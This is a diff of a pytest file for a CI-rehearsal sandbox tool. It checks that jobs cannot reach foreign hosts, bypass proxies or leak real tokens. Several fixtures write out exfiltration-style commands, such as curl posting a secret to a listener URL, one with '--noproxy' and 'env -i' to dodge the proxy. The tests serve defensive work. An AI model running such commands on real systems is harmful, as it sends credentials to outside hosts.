@@ -22,7 +22,8 @@ from pypi_practice.network.connections import read_host
 from pypi_practice.tokens import patterns
 from pypi_practice.travis.plan import destinations, planner
 from pypi_practice.travis.plan.plan_types import Event, Job
-from pypi_practice.travis.run import results, script, workspace
+from pypi_practice.travis.run import results
+from pypi_practice.travis.run.job import script, workspace
 
 EN, ES = Translator("en", "travis/messages"), Translator("es", "travis/messages")
 HEAD = "language: python\ninstall: skip\nscript: skip\n"
@@ -83,22 +84,22 @@ def summary(log: str) -> str:
 @pytest.mark.long
 def test_another_host_is_refused_and_the_summary_says_how_to_allow_it(tmp_path, travis, listener):
     text = f"{HEAD}{DEPLOY}curl --silent --data s3cr3t {listener.url}\n"
-    done = travis(project(tmp_path / "demo", text), "--wall", "none")
+    result = travis(project(tmp_path / "demo", text), "--wall", "none")
     assert listener.heard == []
-    assert EN("will_refuse", job="1.1", host=listener.name) in done.stdout
-    assert f"    {EN('host_refused', host=listener.name)}\n" in summary(done.stdout)
-    assert EN("nothing_published") in summary(done.stdout)
+    assert EN("will_refuse", job="1.1", host=listener.name) in result.stdout
+    assert f"    {EN('host_refused', host=listener.name)}\n" in summary(result.stdout)
+    assert EN("nothing_published") in summary(result.stdout)
 
 
 @pytest.mark.long
 def test_a_host_that_is_allowed_is_reached_and_the_summary_says_so(tmp_path, travis, listener):
     text = f"{HEAD}{DEPLOY}curl --silent --data s3cr3t {listener.url}\n"
-    done = travis(project(tmp_path / "demo", text), "--allow-host", listener.name, "--lang", "es")
-    assert done.returncode == 0, done.stdout
+    result = travis(project(tmp_path / "demo", text), "--allow-host", listener.name, "--lang", "es")
+    assert result.returncode == 0, result.stdout
     assert listener.heard == ["s3cr3t"]
-    assert ES("will_reach", job="1.1", host=listener.name) in done.stdout
-    assert f"    {ES('host_reached', host=listener.name)}\n" in summary(done.stdout)
-    assert ES("nothing_published") not in summary(done.stdout)
+    assert ES("will_reach", job="1.1", host=listener.name) in result.stdout
+    assert f"    {ES('host_reached', host=listener.name)}\n" in summary(result.stdout)
+    assert ES("nothing_published") not in summary(result.stdout)
 
 
 @pytest.mark.long
@@ -113,8 +114,8 @@ def test_hosts_are_told_apart_in_the_summary(tmp_path, travis, listener):
     text = HEAD.replace("script: skip", "script:") + "".join(
         f"  - curl --silent --data s3cr3t {url} || true\n" for url in urls
     )
-    done = travis(project(tmp_path / "demo", text), "--allow-host", "other.invalid")
-    printed = summary(done.stdout)
+    result = travis(project(tmp_path / "demo", text), "--allow-host", "other.invalid")
+    printed = summary(result.stdout)
     assert printed.count(EN("host_refused", host="index.example.org")) == 1
     assert EN("host_protected", host="pypi.io") in printed
     assert EN("host_protected", host="docs.pypi.org") in printed
@@ -141,32 +142,32 @@ def test_a_pypi_deploy_to_another_server_is_refused(tmp_path, travis, listener):
     )
     folder = project(tmp_path / "demo", text)
     path = f"{tool.parent}{os.pathsep}{os.environ['PATH']}"
-    done = travis(folder, "--wall", "none", "--var", "TOKEN=s3cr3t-value", PATH=path)
-    assert done.returncode == 1, done.stdout
-    assert "Uploading distributions to" in done.stdout
+    result = travis(folder, "--wall", "none", "--var", "TOKEN=s3cr3t-value", PATH=path)
+    assert result.returncode == 1, result.stdout
+    assert "Uploading distributions to" in result.stdout
     assert listener.heard == []
-    assert EN("host_refused", host=listener.name) in summary(done.stdout)
-    assert EN("nothing_published") in summary(done.stdout)
+    assert EN("host_refused", host=listener.name) in summary(result.stdout)
+    assert EN("nothing_published") in summary(result.stdout)
 
 
 @pytest.mark.long
 @pytest.mark.parametrize("wall", ["bubblewrap", "namespace", "landlock"])
 def test_a_command_past_the_proxy_reaches_nothing(wall, tmp_path, travis, listener):
     text = f"{HEAD}{DEPLOY}env -i curl --silent --noproxy '*' --data s3cr3t {listener.url}\n"
-    done = travis(project(tmp_path / "demo", text), "--wall", wall)
+    result = travis(project(tmp_path / "demo", text), "--wall", wall)
     assert listener.heard == []
-    assert done.returncode == 1
-    assert EN("nothing_published") in summary(done.stdout)
+    assert result.returncode == 1
+    assert EN("nothing_published") in summary(result.stdout)
 
 
 @pytest.mark.long
 def test_without_a_wall_the_log_and_the_summary_say_so(tmp_path, travis, listener):
     text = f"{HEAD}{DEPLOY}env -i curl --silent --noproxy '*' --data s3cr3t {listener.url}\n"
-    done = travis(project(tmp_path / "demo", text), "--wall", "none")
+    result = travis(project(tmp_path / "demo", text), "--wall", "none")
     assert listener.heard == ["s3cr3t"]
     warning = SANDBOX("no_wall_job", reasons="--wall none")
-    assert done.stdout.count(warning) == 2
-    assert warning in summary(done.stdout)
+    assert result.stdout.count(warning) == 2
+    assert warning in summary(result.stdout)
 
 
 @pytest.mark.long
@@ -179,7 +180,7 @@ def test_an_index_to_install_from_takes_no_upload(tmp_path, listener):
     }
     commands = [f"curl --silent --data a {url}" for url in (UPSTREAM, listener.url)]
     commands.append(f"curl --silent --fail {UPSTREAM}")
-    done = subprocess.run(
+    result = subprocess.run(
         [sys.executable, "-m", "pypi_practice", "travis", "run", "."],
         cwd=project(tmp_path / "demo", f"{HEAD}{DEPLOY}{'; '.join(commands)}\n"),
         env=environ,
@@ -187,16 +188,16 @@ def test_an_index_to_install_from_takes_no_upload(tmp_path, listener):
         text=True,
         check=False,
     )
-    assert done.returncode == 0, done.stdout
+    assert result.returncode == 0, result.stdout
     assert listener.heard == [""]
 
 
 @pytest.mark.long
 def test_what_the_shell_around_has_set_leads_no_job_elsewhere(tmp_path, travis, listener):
     folder = project(tmp_path / "demo", f"{HEAD}{DEPLOY}curl --silent --data a {listener.url}\n")
-    done = travis(folder, "--wall", "none", NO_PROXY="*", no_proxy="*", ALL_PROXY=listener.url)
+    result = travis(folder, "--wall", "none", NO_PROXY="*", no_proxy="*", ALL_PROXY=listener.url)
     assert listener.heard == []
-    assert EN("host_refused", host=listener.name) in summary(done.stdout)
+    assert EN("host_refused", host=listener.name) in summary(result.stdout)
 
 
 @pytest.mark.parametrize(
@@ -242,18 +243,18 @@ def test_a_host_that_is_none_gets_a_sentence(host, tmp_path, travis):
     with pytest.raises(ValueError):  # noqa: PT011
         read_host(host)
     if host in ("https://a.example", "\x1b[2J", ""):
-        done = travis(project(tmp_path / "demo", "script: a\n"), "--allow-host", host)
-        assert done.returncode == 2
-        assert SANDBOX("host_name", host=ascii(host)) in done.stdout
-        assert "\x1b" not in done.stdout
+        result = travis(project(tmp_path / "demo", "script: a\n"), "--allow-host", host)
+        assert result.returncode == 2
+        assert SANDBOX("host_name", host=ascii(host)) in result.stdout
+        assert "\x1b" not in result.stdout
 
 
 @pytest.mark.long
 @pytest.mark.parametrize("host", ["upload.pypi.org", "test.pypi.org.", "PYPI.org"])
 def test_pypi_cannot_be_allowed(host, tmp_path, travis):
-    done = travis(project(tmp_path / "demo", "script: a\n"), "--allow-host", host)
-    assert done.returncode == 2
-    assert SANDBOX("host_protected", host=host.lower().rstrip(".")) in done.stdout
+    result = travis(project(tmp_path / "demo", "script: a\n"), "--allow-host", host)
+    assert result.returncode == 2
+    assert SANDBOX("host_protected", host=host.lower().rstrip(".")) in result.stdout
 
 
 def _job(text: str) -> Job:
@@ -290,10 +291,10 @@ def test_a_plan_names_foreign_hosts(deploy, hosts):
 def test_a_dry_run_says_before_what_a_rehearsal_refuses(tmp_path, travis):
     text = f"{HEAD}{DEPLOY}twine upload --repository-url https://a.example/ dist/*\n"
     folder = project(tmp_path / "demo", text)
-    done = travis(folder, "--dry-run")
-    assert f"{EN('will_refuse', job='1.1', host='a.example')}\n" in done.stdout
-    done = travis(folder, "--dry-run", "--allow-host", "a.example", "--lang", "es")
-    assert f"{ES('will_reach', job='1.1', host='a.example')}\n" in done.stdout
+    result = travis(folder, "--dry-run")
+    assert f"{EN('will_refuse', job='1.1', host='a.example')}\n" in result.stdout
+    result = travis(folder, "--dry-run", "--allow-host", "a.example", "--lang", "es")
+    assert f"{ES('will_reach', job='1.1', host='a.example')}\n" in result.stdout
 
 
 # What a job writes down itself
@@ -340,10 +341,10 @@ def test_a_job_that_says_it_has_published_has_not(text, tmp_path, travis):
         f"  - echo '{log}'\n"
         "deploy: {provider: pypi, username: __token__, password: $TOKEN, on: other}\n"
     )
-    done = travis(project(tmp_path / "demo", text), "--var", "TOKEN=a-token")
-    assert done.returncode == 0, done.stdout
-    assert "Traceback" not in done.stdout
-    printed = summary(done.stdout)
+    result = travis(project(tmp_path / "demo", text), "--var", "TOKEN=a-token")
+    assert result.returncode == 0, result.stdout
+    assert "Traceback" not in result.stdout
+    printed = summary(result.stdout)
     assert "published" not in printed.replace(EN("nothing_published"), "")
     assert EN("nothing_published") in printed
     assert ".whl" not in printed
@@ -368,8 +369,8 @@ jobs:
     - script: echo {wheel}
     - script: bash upload.sh
 """
-    done = travis(project(folder, text), "--var", f"TWINE_PASSWORD={index.token()}")
-    assert EN("published", names=wheel, index="TestPyPI") in summary(done.stdout), done.stdout
+    result = travis(project(folder, text), "--var", f"TWINE_PASSWORD={index.token()}")
+    assert EN("published", names=wheel, index="TestPyPI") in summary(result.stdout), result.stdout
 
 
 # Values
@@ -399,9 +400,9 @@ def test_a_real_token_is_seen_wherever_it_stands(form, where, tmp_path, travis):
     }
     text = f"language: python\ninstall: skip\nscript: touch {tmp_path}/ran\n{texts[where]}"
     options = ["--var", f"TOKEN={token}"] if where == "variable" else []
-    done = travis(project(tmp_path / "demo", text), *options)
-    assert done.returncode == 2, done.stdout
-    assert REAL not in done.stdout
+    result = travis(project(tmp_path / "demo", text), *options)
+    assert result.returncode == 2, result.stdout
+    assert REAL not in result.stdout
     assert not (tmp_path / "ran").exists()
 
 
@@ -438,10 +439,10 @@ def test_a_practice_token_and_other_texts_are_no_real_ones():
 @pytest.mark.long
 def test_a_real_token_in_what_a_job_would_inherit_is_refused(tmp_path, travis):
     folder = project(tmp_path / "demo", f"install: skip\nscript: touch {tmp_path}/ran\n")
-    done = travis(folder, TERM=REAL)
-    assert done.returncode == 2
-    assert EN("real_variable", name="TERM") in done.stdout
-    assert REAL not in done.stdout
+    result = travis(folder, TERM=REAL)
+    assert result.returncode == 2
+    assert EN("real_variable", name="TERM") in result.stdout
+    assert REAL not in result.stdout
     assert not (tmp_path / "ran").exists()
 
 
@@ -449,8 +450,8 @@ def test_a_real_token_in_what_a_job_would_inherit_is_refused(tmp_path, travis):
 def test_a_job_inherits_a_locale_and_no_other_name_like_one(tmp_path, travis):
     text = 'install: skip\nscript: test "$LC_CTYPE-$LC_TOKEN-$GH_TOKEN" = C.UTF-8--\n'
     folder = project(tmp_path / "demo", f"language: python\n{text}")
-    done = travis(folder, LC_CTYPE="C.UTF-8", LC_TOKEN="x", GH_TOKEN="x")
-    assert done.returncode == 0, done.stdout
+    result = travis(folder, LC_CTYPE="C.UTF-8", LC_TOKEN="x", GH_TOKEN="x")
+    assert result.returncode == 0, result.stdout
 
 
 @pytest.mark.parametrize(
@@ -484,11 +485,13 @@ def test_all_that_a_job_gets_of_its_own_lies_in_one_folder(tmp_path, travis):
     )
     shown = " ".join(f"at=${name}" for name in names)
     text = f"language: python\ninstall: skip\nscript: echo {shown}\n"
-    done = travis(project(tmp_path / "demo", text))
-    (line,) = [candidate for candidate in done.stdout.splitlines() if candidate.startswith("at=/")]
+    result = travis(project(tmp_path / "demo", text))
+    (line,) = [
+        candidate for candidate in result.stdout.splitlines() if candidate.startswith("at=/")
+    ]
     roots = {Path(word.removeprefix("at=")).parts[:3] for word in line.split()}
     assert len(roots) == 1, line
 
 
 def test_the_names_of_the_practice_environment_that_a_job_keeps_lead_nowhere_else():
-    assert not {"NO_PROXY", "PIP_INDEX_URL", "HTTPS_PROXY"} & set(workspace.KEPT_OF_PRACTICE)
+    assert not {"NO_PROXY", "PIP_INDEX_URL", "HTTPS_PROXY"} & set(workspace.KEPT_PRACTICE_VARIABLES)
